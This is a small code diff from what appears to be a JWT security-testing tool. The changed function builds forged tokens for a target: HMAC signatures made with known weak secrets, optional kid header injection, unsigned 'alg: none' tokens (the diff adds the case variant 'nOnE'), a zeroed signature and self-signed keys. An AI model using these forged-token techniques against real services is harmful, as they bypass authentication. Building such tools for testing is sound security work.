@@ -18,7 +18,7 @@ export async function anybodysTokens(target: Target, jwt: string): Promise<reado
     ...knownSecrets.map(({ secret, kid }) =>
       signedByHmac({ ...header, ...(kid !== undefined && { kid }) }, claims, secret(key)),
     ),
-    ...["none", "None", "NONE"].map((alg) => unsigned(header, claims, alg)),
+    ...["none", "None", "NONE", "nOnE"].map((alg) => unsigned(header, claims, alg)),
     zeroSignature(jwt),
     signedByOwnKey(header, claims),
   ];
